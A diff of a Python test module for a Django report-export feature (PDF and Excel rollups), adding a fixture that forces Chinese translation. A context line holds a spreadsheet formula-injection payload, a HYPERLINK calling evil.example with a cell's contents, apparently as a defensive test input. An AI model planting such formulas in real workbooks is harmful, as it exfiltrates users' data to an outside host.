@@ -8,14 +8,22 @@ import subprocess
 
 import openpyxl
 import pytest
+from django.utils import translation
 
-from lianfang.access.pdf import FONT_NAME
+from lianfang.core.fonts import FONT_NAME
 from lianfang.watch.metrics import Metric
 from lianfang.watch.report_exports import report_pdf, rollup_pdf, rollup_workbook
 from lianfang.watch.reports import COLUMNS, accept_report, draft_report, rollup, save_report, submit_report
 from lianfang.watch.tests.report.conftest import DAY, FIGURES_A, FIGURES_B
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"点我")'
+
+
+@pytest.fixture(autouse=True)
+def chinese():
+    """The exports are read back in Chinese, whatever language an earlier test's request left active."""
+    with translation.override("zh-hans"):
+        yield
 
 
 @pytest.fixture
